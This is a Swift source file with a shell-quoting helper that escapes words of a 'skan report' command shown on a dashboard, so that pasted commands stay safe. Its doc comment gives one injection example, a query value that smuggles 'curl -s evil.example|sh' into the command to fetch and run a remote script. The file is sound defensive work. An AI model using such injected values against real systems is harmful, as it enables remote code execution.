/// Words of a command line shown for people to paste into a POSIX shell (the dashboard's `skan report` lines,
/// the demo's closing hints).
public enum ShellQuoting {
    /// `word` as one shell word that means exactly `word`: as is when it holds only characters no shell treats
    /// specially (letters, digits, `@%+=:,./_-`, and not a leading `=`, which zsh expands), else between single
    /// quotes, where nothing is special, with each `'` written as `'\''` (close, an escaped quote, reopen).
    ///
    /// Why: the dashboard shows the `skan report` command behind each panel, built from its URL's query; a shared
    /// link's `?network=x; curl -s evil.example|sh #` must show a command that counts that network, not one that
    /// runs `curl`.
    public static func quote(_ word: String) -> String {
        let isPlain = !word.isEmpty && !word.hasPrefix("=") && word.utf8.allSatisfy { byte in
            switch byte {
            case UInt8(ascii: "a")...UInt8(ascii: "z"), UInt8(ascii: "A")...UInt8(ascii: "Z"),
                 UInt8(ascii: "0")...UInt8(ascii: "9"):
                true
            default:
                "@%+=:,./_-".utf8.contains(byte)
            }
        }
        if isPlain { return word }
        return "'" + word.replacingOccurrences(of: "'", with: #"'\''"#) + "'"
    }
}
